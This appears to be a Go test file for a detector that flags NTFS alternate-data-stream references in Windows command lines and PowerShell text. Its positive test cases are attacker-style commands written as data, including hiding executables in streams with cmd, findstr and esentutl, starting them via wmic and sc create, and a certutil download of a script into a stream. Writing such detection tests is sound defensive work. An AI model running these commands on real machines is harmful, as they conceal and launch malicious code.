package conceal

import (
	"strings"
	"testing"
)

func TestStreamIn(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{`C:\Users\Public\notes.txt:evil.exe`, ":evil.exe"},
		{`cmd /c type C:\temp\a.exe > "C:\Program Files (x86)\Viewer\Logfile.log:a.exe"`, ":a.exe"},
		{`certutil.exe -urlcache -split -f https://files.example.test/t.ps1 c:\temp:ttt`, ":ttt"},
		{`findstr /V /L XX a.exe > file.txt:b.exe`, ":b.exe"},
		{`wmic process call create "c:\ads\file.txt:b.exe"`, ":b.exe"},
		{`esentutl.exe /y a.exe /d c:\ads\file.txt:b.exe /o`, ":b.exe"},
		{`cmd /c echo x > C:\hidden::$INDEX_ALLOCATION`, "::$INDE"},
		{`more < C:\a.txt::$DATA`, "::$DATA"},
		{`C:\Users\Public\a.zip:Zone.Identifier`, ":Zone.Identifier"},
		{`sc create svc binPath= "\"C:\ads\file.txt:b.exe\" /c"`, ":b.exe"},
		{`C:\Users\jdoe\AppData:x.vbs`, ":x.vbs"},
		{`C:\Users\Public\a.txt`, ""},
		{`"C:\Program Files\App\app.exe" --server=db.example.test:1433 --url http://files.example.test:8080/a`, ""},
		{`net use \\srv01\c$ /user:EXAMPLE\jdoe:secret`, ""},
		{`app.exe -agentlib:jdwp=transport C:\a\b.jar`, ""},
		{`copy C:\a.txt D:\b.txt`, ""},
		{`tool.exe C:\data\run.cfg key:value`, ""},
		{`msbuild x.csproj /p:Configuration=Release /t:Build /flp:logfile=C:\a.log`, ""},
		{`print /D:\\srv01\queue C:\a.txt`, ""},
		{`ssh jdoe@host.example.test:path`, ""},
		{`:`, ""},
		{`::`, ""},
		{`a:`, ""},
	} {
		if got := StreamIn(c.text); got != c.want {
			t.Errorf("%s: %q, want %q", c.text, got, c.want)
		}
	}
}

func TestStreamInScript(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{`set-content -path a.txt -stream notes.txt -value "x"`, ":notes.txt"},
		{`Get-Item -Path . -Stream *`, ""},
		{`Add-Content C:\a.txt -Value $x -Stream 'p';`, ":p"},
		{`(Get-Content a -Stream:p)`, ":p"},
		{`Get-Content -StreamReader x`, ""},
		{"CommandInvocation(Add-Content): \"Add-Content\"\nParameterBinding(Add-Content): name=\"Stream\"; value=\"p\"", ":p"},
		{"ParameterBinding(Get-Item): name=\"Stream\"; value=\"*\"", ""},
		{"$a = 1\r\nStart-Process C:\\a\\b.txt:c.exe", ":c.exe"},
		{"Write-Host 'failed: C:\\a.txt: not found'", ""},
		{"hosts.txt:line", ""},
		{strings.Repeat(" -stream", 100), ""},
	} {
		if got := StreamInScript(c.text); got != c.want {
			t.Errorf("%s: %q, want %q", c.text, got, c.want)
		}
	}
}
